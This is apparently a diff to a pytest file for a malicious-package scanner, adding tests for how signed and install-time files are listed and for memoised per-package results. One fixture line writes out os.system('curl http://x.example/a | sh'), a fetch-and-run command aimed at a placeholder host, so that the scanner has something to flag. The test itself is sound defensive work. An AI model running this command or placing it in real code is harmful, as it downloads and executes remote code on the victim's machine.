@@ -1,10 +1,12 @@
 from __future__ import annotations
 
+import pickle
+
 import pytest
 
 from tests.analysis.builders import npm_tarball, package, sdist, tar_gz
-from threatfeed.analysis import Engine
-from threatfeed.analysis.package import starts_like_code
+from threatfeed.analysis import Engine, memo
+from threatfeed.analysis.package import Package, starts_like_code
 
 
 def _contexts(engine: Engine, archive: bytes) -> dict[str, str]:
@@ -140,3 +142,37 @@ def test_code_under_any_name_is_recognised_by_how_it_opens(data: bytes) -> None:
 )
 def test_prose_and_hostile_openings_are_not_code(data: bytes) -> None:
     assert not starts_like_code(data)
+
+
+def test_signed_and_install_files_are_those_of_the_package_in_order(engine: Engine) -> None:
+    archive = sdist(
+        {
+            "tidy_strings/a.py": "import os\nos.system('curl http://x.example/a | sh')\n",
+            "tidy_strings/b.py": "X = 1\n",
+            "zz.pth": "import os\n",
+        }
+    )
+    found = package(engine, archive)
+    assert found.signed == tuple(f for f in found.files if f.signatures)
+    assert "tidy_strings/a.py" in {f.rel for f in found.signed}
+    assert [f.rel for f in found.at_install] == [
+        f.rel for f in found.files if f.context == "install"
+    ]
+
+
+def test_what_rules_derive_from_a_package_is_computed_once_and_pickles(engine: Engine) -> None:
+    calls: list[str | None] = []
+
+    @memo.per_package
+    def name_of(found: Package) -> str | None:
+        calls.append(found.name)
+        return found.name
+
+    first, second = package(engine, sdist({})), package(engine, sdist({}, name="other"))
+    assert [name_of(first), name_of(first), name_of(second)] == [
+        "tidy-strings",
+        "tidy-strings",
+        "other",
+    ]
+    assert calls == ["tidy-strings", "other"]
+    assert pickle.loads(pickle.dumps(first)).derived == first.derived
